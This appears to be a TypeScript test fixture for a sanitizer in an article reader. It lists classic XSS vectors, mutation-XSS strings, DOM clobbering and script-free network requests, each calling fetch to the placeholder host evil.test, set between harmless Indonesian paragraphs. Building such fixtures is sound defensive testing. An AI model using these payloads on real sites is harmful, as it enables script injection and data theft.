// Markup that tries to run script, leave the machine or take over the page from inside a saved
// article: the classic XSS vectors, mutation-XSS strings that turn harmless after one parse and
// hostile after the next, and ways to reach the network without script. Every payload that runs
// appends its name to window.__pwned and/or asks http://evil.test/<name>; each sits between two
// harmless paragraphs that must still be shown.

export const EVIL_ORIGIN = 'http://evil.test'

/** What a payload does when it runs: leaves its name where the test looks. */
const run = (name: string): string => `window.__pwned=(window.__pwned||'')+'${name};';fetch('${EVIL_ORIGIN}/${name}')`
/** The same, as seen from inside a frame. */
const runInFrame = (name: string): string => `parent.__pwned=(parent.__pwned||'')+'${name};';fetch('${EVIL_ORIGIN}/${name}')`
const url = (name: string): string => `${EVIL_ORIGIN}/${name}`

export interface Payload {
  name: string
  html: string
}

export const payloads: readonly Payload[] = [
  { name: 'script', html: `<script>${run('script')}</script>` },
  { name: 'script-src', html: `<script src="${url('script-src')}"></script>` },
  { name: 'img-onerror', html: `<img src="x" onerror="${run('img-onerror')}">` },
  { name: 'img-remote', html: `<img src="${url('img-remote')}" alt="remote">` },
  { name: 'img-srcset', html: `<img srcset="${url('img-srcset')} 1x" alt="srcset">` },
  { name: 'body-onload', html: `<body onload="${run('body-onload')}"></body>` },
  { name: 'svg-onload', html: `<svg onload="${run('svg-onload')}"><circle r="4"></circle></svg>` },
  { name: 'svg-script', html: `<svg><script>${run('svg-script')}</script></svg>` },
  { name: 'svg-xlink', html: `<svg><a xlink:href="javascript:${run('svg-xlink')}"><text y="10">svg link</text></a></svg>` },
  { name: 'a-javascript', html: `<a href="javascript:${run('a-javascript')}">tautan javascript</a>` },
  { name: 'a-javascript-entities', html: `<a href="jav&#x09;ascript&#x3a;${run('a-javascript-entities')}">tautan tersamar</a>` },
  { name: 'a-data', html: `<a href="data:text/html;base64,${Buffer.from(`<script>${runInFrame('a-data')}</script>`).toString('base64')}">tautan data</a>` },
  { name: 'a-onclick', html: `<a href="https://example.com/berita" onclick="${run('a-onclick')}">tautan dengan onclick</a>` },
  { name: 'iframe-javascript', html: `<iframe src="javascript:${runInFrame('iframe-javascript')}"></iframe>` },
  { name: 'iframe-srcdoc', html: `<iframe srcdoc="<script>${runInFrame('iframe-srcdoc').replace(/'/g, '&#39;')}</script>"></iframe>` },
  { name: 'iframe-remote', html: `<iframe src="${url('iframe-remote')}"></iframe>` },
  { name: 'object-data', html: `<object data="data:text/html,<script>${runInFrame('object-data')}</script>"></object>` },
  { name: 'embed', html: `<embed src="${url('embed')}" type="text/html">` },
  { name: 'meta-refresh', html: `<meta http-equiv="refresh" content="0;url=${url('meta-refresh')}">` },
  { name: 'base-href', html: `<base href="${url('base-href')}/"><img src="relative.png" alt="relative"><a href="relative.html">relatif</a>` },
  { name: 'form-formaction', html: `<form action="${url('form-action')}"><button formaction="javascript:${run('form-formaction')}">kirim</button><input type="submit" value="kirim"></form>` },
  { name: 'style-url', html: `<style>@import url(${url('style-import')}); p { background: url(${url('style-url')}) }</style>` },
  { name: 'style-attribute', html: `<p style="background:url(${url('style-attribute')});width:expression(${run('style-expression')})">gaya sebaris</p>` },
  { name: 'link-import', html: `<link rel="import" href="${url('link-import')}"><link rel="stylesheet" href="${url('link-stylesheet')}"><link rel="prefetch" href="${url('link-prefetch')}">` },
  { name: 'template', html: `<template><img src="x" onerror="${run('template')}"></template>` },
  { name: 'mxss-noscript', html: `<noscript><p title="</noscript><img src=x onerror=${run('mxss-noscript').replace(/'/g, '&#39;')}>"></p></noscript>` },
  { name: 'mxss-mglyph', html: `<math><mtext><table><mglyph><style><img src=x onerror="${run('mxss-mglyph')}"></style></mglyph></table></mtext></math>` },
  { name: 'mxss-svg-style', html: `<svg></p><style><a id="</style><img src=x onerror=${run('mxss-svg-style').replace(/'/g, '&#39;')}>"></a></style></svg>` },
  // Closed after the classic string, so what follows is not swallowed (a form is dropped with its content).
  { name: 'mxss-form-math', html: `<div><form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${run('mxss-form-math')}"></style></mglyph></form></mtext></math></form></div>` },
  { name: 'details-ontoggle', html: `<details open ontoggle="${run('details-ontoggle')}"><summary>rincian</summary>isi</details>` },
  { name: 'input-autofocus', html: `<input autofocus onfocus="${run('input-autofocus')}">` },
  { name: 'video-source', html: `<video><source onerror="${run('video-source')}"></video><audio src="${url('audio')}"></audio>` },
  { name: 'marquee-onstart', html: `<marquee onstart="${run('marquee-onstart')}">berjalan</marquee>` },
  { name: 'dom-clobbering', html: `<a id="__pwned" name="__pwned" href="https://example.com/">pengganti</a><img name="__pwned" alt="x">` },
  { name: 'table-background', html: `<table background="${url('table-background')}"><tr><td background="${url('td-background')}">sel</td></tr></table>` },
]

/** A harmless paragraph, long enough for readability to keep it as article text. */
export const safeParagraph = (n: number): string =>
  `Paragraf aman ${String(n).padStart(2, '0')}: warga Bandung membaca berita pagi di taman kota, lalu berbincang tentang harga beras, cuaca, dan jadwal kereta ke Jakarta.`

/** The article body: payloads, each between harmless paragraphs. */
export function hostileBody(): string {
  const parts = [`<p>${safeParagraph(0)}</p>`]
  payloads.forEach((payload, i) => parts.push(payload.html, `<p>${safeParagraph(i + 1)}</p>`))
  return parts.join('\n')
}

export const hostileTitle = 'Uji konten berbahaya di pembaca Warta'

/** A whole saved page, with the payloads only a document's head can hold as well. */
export function hostilePage(): string {
  return `<!doctype html>
<html lang="id"><head><meta charset="utf-8"><title>${hostileTitle}</title>
<meta http-equiv="refresh" content="0;url=${url('head-refresh')}">
<base href="${url('head-base')}/">
<link rel="stylesheet" href="${url('head-stylesheet')}">
<script>${run('head-script')}</script>
</head>
<body onload="${run('head-body-onload')}"><article><h1>${hostileTitle}</h1>
${hostileBody()}
</article></body></html>`
}
